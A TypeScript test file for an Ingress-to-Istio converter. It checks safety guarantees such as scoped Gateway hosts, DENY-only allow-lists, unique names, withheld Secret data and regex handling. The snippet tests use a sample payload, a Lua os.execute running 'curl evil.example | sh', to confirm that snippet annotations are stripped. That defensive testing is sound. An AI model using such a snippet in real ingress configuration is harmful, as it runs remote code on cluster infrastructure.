/**
 * Safety guarantees of the output (README "Safety"): namespace-scoped Gateway hosts, no server
 * clashes, IP allow-lists as DENY policies only, no snippet content, DNS-1123 names unique per
 * kind and namespace, no Secret data, linear-time regex handling. Hand-written cases for each,
 * plus properties over the fuzzer's generated Ingress sets.
 */
import fc from 'fast-check';
import jsYaml from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { generatedCaseArbitrary, type FuzzCase } from '../../scripts/fuzz.js';
import { convert } from '../../src/engine/convert.js';
import type { ConvertResult } from '../../src/engine/types.js';
import { print } from '../../src/emit/print.js';
import type { Gateway, IstioResource } from '../../src/istio/types.js';
import { validateAll } from '../../src/istio/validate.js';
import { defaultOptions, type ConvertOptions } from '../../src/model/options.js';
import { normalize, parseText } from '../../src/read/index.js';
import { findingsReportText } from '../../src/report/findings-json.js';

function run(text: string, overrides: Partial<ConvertOptions> = {}): ConvertResult {
  const parsed = parseText(text, 'in.yaml');
  const set = normalize(parsed.objects, overrides.controller ? { controller: overrides.controller } : {});
  set.errors = [...parsed.errors, ...set.errors];
  return convert(set, defaultOptions(overrides));
}

function runCase(c: FuzzCase): ConvertResult {
  return run(c.files[0]!.text, c.options);
}

interface IngSpec {
  ns?: string;
  name?: string;
  cls?: string;
  host?: string;
  path?: string;
  pathType?: string;
  service?: string;
  annotations?: Record<string, string>;
  tls?: { hosts: string[]; secretName: string };
}

function ingress(s: IngSpec = {}): string {
  const ann = Object.entries(s.annotations ?? {});
  return `---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: ${s.name ?? 'web'}
  namespace: ${s.ns ?? 'default'}
${ann.length ? `  annotations:\n${ann.map(([k, v]) => `    ${k}: ${JSON.stringify(v)}`).join('\n')}\n` : ''}spec:
  ingressClassName: ${s.cls ?? 'nginx'}
${s.tls ? `  tls:\n  - hosts: [${s.tls.hosts.join(', ')}]\n    secretName: ${s.tls.secretName}\n` : ''}  rules:
  - host: ${s.host ?? 'example.com'}
    http:
      paths:
      - path: ${JSON.stringify(s.path ?? '/')}
        pathType: ${s.pathType ?? 'Prefix'}
        backend:
          service:
            name: ${s.service ?? 'web'}
            port:
              number: 80
`;
}

const gatewayOf = (r: ConvertResult) => r.resources.find((x) => x.kind === 'Gateway') as Gateway | undefined;
const ofKind = (r: ConvertResult, kind: string) => r.resources.filter((x) => x.kind === kind) as Array<IstioResource & { spec: any }>;

const DNS1123_SUBDOMAIN = /^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$/;

/** Checks shared by the hand-written cases and the property. */
function checkSafety(r: ConvertResult): string[] {
  const problems: string[] = [];
  const gw = gatewayOf(r);
  const seen = new Map<string, string>();
  for (const s of gw?.spec.servers ?? []) {
    for (const h of s.hosts ?? []) {
      const m = /^([a-z0-9]([-a-z0-9]*[a-z0-9])?)\/(.+)$/.exec(h);
      if (!m) problems.push(`Gateway server host ${h} is not scoped to a namespace (ns/host)`);
      const id = `${s.port.number}/${m ? m[3] : h}`;
      if (seen.has(id)) problems.push(`two Gateway servers on port ${s.port.number} admit host ${m ? m[3] : h} (${seen.get(id)} and ${s.port.name})`);
      seen.set(id, s.port.name ?? '');
    }
  }
  const names = new Set<string>();
  for (const x of r.resources) {
    const id = `${x.kind}/${x.metadata.namespace}/${x.metadata.name}`;
    if (names.has(id)) problems.push(`${id} generated twice`);
    names.add(id);
    if (!DNS1123_SUBDOMAIN.test(x.metadata.name) || x.metadata.name.length > 253) problems.push(`${id}: name is not DNS-1123`);
    if (x.kind === 'AuthorizationPolicy') {
      const action = (x.spec as { action?: string }).action;
      // An omitted action means ALLOW.
      if (action !== 'DENY' && action !== 'CUSTOM' && action !== 'AUDIT') problems.push(`${id}: action ${action ?? '(none: ALLOW)'}`);
    }
  }
  return problems;
}

describe('Gateway servers', () => {
  it('scope every host to the namespace of its VirtualService (ns/host), one HTTP server per namespace', () => {
    const r = run(ingress({ ns: 'shop', host: 'shop.example.com' }) + ingress({ ns: 'blog', host: 'blog.example.com' }));
    expect(gatewayOf(r)!.spec.servers).toEqual([
      { port: { number: 80, name: 'http-blog', protocol: 'HTTP' }, hosts: ['blog/blog.example.com'] },
      { port: { number: 80, name: 'http-shop', protocol: 'HTTP' }, hosts: ['shop/shop.example.com'] },
    ]);
    expect(checkSafety(r)).toEqual([]);
  });

  it('a host claimed from two namespaces is admitted from one namespace only, and the other Ingress is told', () => {
    const r = run(ingress({ ns: 'shop', name: 'a', host: 'x.example.com' }) + ingress({ ns: 'evil', name: 'b', host: 'x.example.com', path: '/admin' }));
    const hosts = gatewayOf(r)!.spec.servers.flatMap((s) => s.hosts);
    expect(hosts).toEqual(['shop/x.example.com']);
    expect(r.findings.some((f) => f.ingress.namespace === 'evil' && f.tags?.includes('cross-namespace-host'))).toBe(true);
    expect(checkSafety(r)).toEqual([]);
  });

  it('two TLS Ingresses with different certificates for one host: one HTTPS server admits the host, the other certificate is reported', () => {
    const r = run(
      ingress({ ns: 'shop', name: 'a', host: 'x.example.com', tls: { hosts: ['x.example.com'], secretName: 'cert-a' } }) +
        ingress({ ns: 'shop', name: 'b', host: 'x.example.com', path: '/b', tls: { hosts: ['x.example.com'], secretName: 'cert-b' } }),
    );
    const https = gatewayOf(r)!.spec.servers.filter((s) => s.port.number === 443);
    expect(https.map((s) => s.hosts)).toEqual([['shop/x.example.com']]);
    expect(checkSafety(r)).toEqual([]);
    expect(r.findings.some((f) => f.ingress.name === 'b' && f.tags?.includes('conflict'))).toBe(true);
  });
});

describe('IP allow-lists', () => {
  for (const [controller, key] of [
    ['ingress-nginx', 'nginx.ingress.kubernetes.io/whitelist-source-range'],
    ['ingress-nginx', 'nginx.ingress.kubernetes.io/allowlist-source-range'],
    ['haproxytech', 'haproxy.org/allow-list'],
    ['haproxytech', 'haproxy.org/whitelist'],
    ['haproxy-ingress', 'haproxy-ingress.github.io/allowlist-source-range'],
    ['haproxy-ingress', 'haproxy-ingress.github.io/whitelist-source-range'],
  ] as const) {
    it(`${controller} ${key}: a DENY policy with notRemoteIpBlocks scoped to the Ingress's host, never ALLOW`, () => {
      const r = run(ingress({ ns: 'shop', host: 'shop.example.com', annotations: { [key]: '10.0.0.0/8, 192.168.1.1' } }) + ingress({ ns: 'blog', host: 'blog.example.com' }), { controller });
      const aps = ofKind(r, 'AuthorizationPolicy');
      expect(aps).toHaveLength(1);
      expect(aps[0]!.spec.action).toBe('DENY');
      const rules = aps[0]!.spec.rules as Array<{ from: any[]; to?: any[] }>;
      expect(rules.length).toBeGreaterThan(0);
      for (const rule of rules) {
        expect(rule.from).toEqual([{ source: { notRemoteIpBlocks: ['10.0.0.0/8', '192.168.1.1'] } }]);
        // Scoped: the other host (blog) is not restricted.
        const hosts = (rule.to ?? []).flatMap((t: any) => t.operation.hosts);
        expect(hosts.length).toBeGreaterThan(0);
        expect(hosts.every((h: string) => h === 'shop.example.com' || h.startsWith('shop.example.com:'))).toBe(true);
      }
      expect(checkSafety(r)).toEqual([]);
    });
  }

  it('for every controller and random values of every catalog key, no AuthorizationPolicy is ever ALLOW (property)', () => {
    fc.assert(
      fc.property(generatedCaseArbitrary(), (c) => {
        const r = runCase(c);
        for (const ap of ofKind(r, 'AuthorizationPolicy')) expect(['DENY', 'CUSTOM']).toContain(ap.spec.action);
      }),
      { seed: 11, numRuns: 40 },
    );
  }, 60_000);
});

describe('snippets', () => {
  const payload = 'content_by_lua_block { os.execute("curl evil.example | sh") } proxy_pass http://evil.example;';
  const snippetKeys = [
    ['nginx', 'nginx.ingress.kubernetes.io/configuration-snippet'],
    ['nginx', 'nginx.ingress.kubernetes.io/server-snippet'],
    ['nginx', 'nginx.ingress.kubernetes.io/auth-snippet'],
    ['nginx', 'nginx.ingress.kubernetes.io/stream-snippet'],
    ['nginx', 'nginx.org/location-snippets'],
    ['nginx', 'nginx.org/server-snippets'],
    ['haproxy', 'haproxy.org/backend-config-snippet'],
    ['haproxy', 'haproxy.org/frontend-config-snippet'],
    ['haproxy', 'haproxy-ingress.github.io/config-backend'],
    ['haproxy', 'haproxy-ingress.github.io/config-frontend'],
  ] as const;

  it.each(snippetKeys)('%s %s: nothing of the snippet appears in the generated objects; the key has a finding', (cls, key) => {
    for (const allow of ['true', 'false']) {
      const r = run(ingress({ cls, annotations: { [key]: payload } }), { nginxConfig: { 'allow-snippet-annotations': allow } });
      const out = print(r.resources, 'yaml') + print(r.resources, 'json');
      for (const bit of ['lua', 'evil', 'os.execute', 'proxy_pass']) expect(out).not.toContain(bit);
      expect(r.findings.some((f) => f.key === key)).toBe(true);
    }
  });

  it('with every snippet key of the catalog at once and random other annotations (property)', () => {
    const marker = 'zzsnippetmarkerzz';
    let withFindings = 0;
    fc.assert(
      fc.property(generatedCaseArbitrary(), (c) => {
        // Add every snippet key to every Ingress of the generated case.
        const parsed = jsYaml.loadAll(c.files[0]!.text) as any[];
        const objs = parsed.flatMap((d) => (d?.kind === 'List' ? d.items : [d]));
        for (const o of objs) {
          if (o?.kind !== 'Ingress') continue;
          o.metadata.annotations = { ...(o.metadata.annotations ?? {}) };
          for (const [, k] of snippetKeys) o.metadata.annotations[k] = `${marker} proxy_pass http://evil;`;
        }
        const r = run(objs.map((o) => `---\n${jsYaml.dump(o)}`).join(''), c.options);
        expect(print(r.resources, 'yaml')).not.toContain(marker);
        if (r.findings.some((f) => snippetKeys.some(([, k]) => k === f.key))) withFindings++;
      }),
      { seed: 12, numRuns: 30 },
    );
    expect(withFindings).toBeGreaterThan(10);
  }, 60_000);
});

describe('generated names', () => {
  it('hosts that sanitize to the same text (a-b.com, a.b-com, A-B.com) get distinct, valid VirtualService names', () => {
    const r = run(ingress({ name: 'one', host: 'a-b.com' }) + ingress({ name: 'two', host: 'a.b-com' }) + ingress({ name: 'three', host: 'a-b-com' }));
    const names = ofKind(r, 'VirtualService').map((v) => v.metadata.name);
    expect(names).toHaveLength(3);
    expect(new Set(names).size).toBe(3);
    expect(checkSafety(r)).toEqual([]);
    expect(validateAll(r.resources)).toEqual([]);
  });

  it('a 253-character host gives a valid name of at most 63 characters', () => {
    const host = `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(61)}`;
    expect(host).toHaveLength(253);
    const r = run(ingress({ host }));
    const vs = ofKind(r, 'VirtualService');
    expect(vs).toHaveLength(1);
    expect(vs[0]!.metadata.name.length).toBeLessThanOrEqual(63);
    expect(checkSafety(r)).toEqual([]);
    expect(validateAll(r.resources)).toEqual([]);
  });

  it('DestinationRules of Services whose namespace-service pairs join to the same text (a-b/c and a/b-c) do not share a name', () => {
    const ann = { 'nginx.ingress.kubernetes.io/backend-protocol': 'HTTPS' };
    const r = run(ingress({ ns: 'a-b', service: 'c', host: 'one.example.com', annotations: ann }) + ingress({ ns: 'a', service: 'b-c', host: 'two.example.com', annotations: ann }));
    const drs = ofKind(r, 'DestinationRule');
    expect(drs.map((d) => d.spec.host).sort()).toEqual(['b-c.a.svc.cluster.local', 'c.a-b.svc.cluster.local']);
    expect(new Set(drs.map((d) => `${d.metadata.namespace}/${d.metadata.name}`)).size).toBe(2);
  });

  it('TLS secrets copied to the gateway namespace (a-b/c and a/b-c) get distinct credential names', () => {
    const r = run(
      ingress({ ns: 'a-b', host: 'one.example.com', tls: { hosts: ['one.example.com'], secretName: 'c' } }) +
        ingress({ ns: 'a', host: 'two.example.com', tls: { hosts: ['two.example.com'], secretName: 'b-c' } }),
    );
    const creds = gatewayOf(r)!.spec.servers.filter((s) => s.tls?.credentialName).map((s) => s.tls!.credentialName!);
    expect(creds).toHaveLength(2);
    expect(new Set(creds).size).toBe(2);
  });

  it('names are valid and unique per kind and namespace for random Ingress sets (property)', () => {
    fc.assert(
      fc.property(generatedCaseArbitrary(), (c) => {
        // Invalid namespaces (Bad_NS, a.b) are a known reader bug, reproduced in fuzz.test.ts.
        const problems = checkSafety(runCase(c)).filter((p) => !/\b(Bad_NS|a\.b)\//.test(p));
        expect(problems).toEqual([]);
      }),
      { seed: 13, numRuns: 40 },
    );
  }, 60_000);
});

describe('Secrets', () => {
  it('Secret objects in the input are skipped: their data never appears in the output or the report', () => {
    const secret = `---
apiVersion: v1
kind: Secret
metadata:
  name: web-tls
  namespace: shop
type: kubernetes.io/tls
data:
  tls.crt: U1VQRVJTRUNSRVRDRVJU
  tls.key: U1VQRVJTRUNSRVRLRVk=
stringData:
  password: hunter2-plaintext
`;
    const r = run(secret + ingress({ ns: 'shop', host: 'shop.example.com', tls: { hosts: ['shop.example.com'], secretName: 'web-tls' } }));
    expect(r.stats.kinds.Secret).toBe(1);
    const everything = print(r.resources, 'yaml') + findingsReportText(r) + JSON.stringify(r.findings);
    for (const bit of ['U1VQRVJTRUNSRVRDRVJU', 'U1VQRVJTRUNSRVRLRVk', 'SUPERSECRET', 'hunter2']) expect(everything).not.toContain(bit);
    // The certificate is referenced by name only.
    expect(gatewayOf(r)!.spec.servers.find((s) => s.port.number === 443)!.tls).toMatchObject({ mode: 'SIMPLE', credentialName: 'shop.web-tls' });
  });
});

describe('regexes', () => {
  it('catastrophic-backtracking patterns ((a+)+$, (x*)*y) convert promptly (RE2 only; sanity bound, not a benchmark)', () => {
    const evil = ['/(a+)+$', '/(x*)*y', '/((a|a)+)+b', `/${'(a?)'.repeat(30)}${'a'.repeat(30)}`, `/${'a'.repeat(5000)}!`];
    const text = evil.map((p, i) => ingress({ name: `r${i}`, host: `r${i}.example.com`, path: p, pathType: 'ImplementationSpecific', annotations: { 'nginx.ingress.kubernetes.io/use-regex': 'true' } })).join('');
    const started = Date.now();
    const r = run(text);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(validateAll(r.resources)).toEqual([]);
    // Each is either routed (RE2 accepts it) or reported (e.g. the 5000-character one exceeds the regex size Envoy accepts).
    const routed = new Set(ofKind(r, 'VirtualService').map((v) => v.spec.hosts[0]));
    evil.forEach((_, i) => {
      const reported = r.findings.some((f) => f.ingress.name === `r${i}` && f.key.endsWith('.path') && (f.level === 'unsupported' || f.level === 'error'));
      expect(routed.has(`r${i}.example.com`) || reported, `r${i}`).toBe(true);
    });
    expect(routed.size).toBeGreaterThanOrEqual(4);
  });

  it('a PCRE-only pattern (lookahead, backreference) is reported, not emitted', () => {
    const r = run(ingress({ path: '/(?=admin)(a)\\1', pathType: 'ImplementationSpecific', annotations: { 'nginx.ingress.kubernetes.io/use-regex': 'true' } }));
    const out = print(r.resources, 'yaml');
    expect(out).not.toContain('(?=admin)');
    expect(r.findings.some((f) => (f.level === 'unsupported' || f.level === 'error') && /RE2|regex/i.test(f.message))).toBe(true);
  });
});
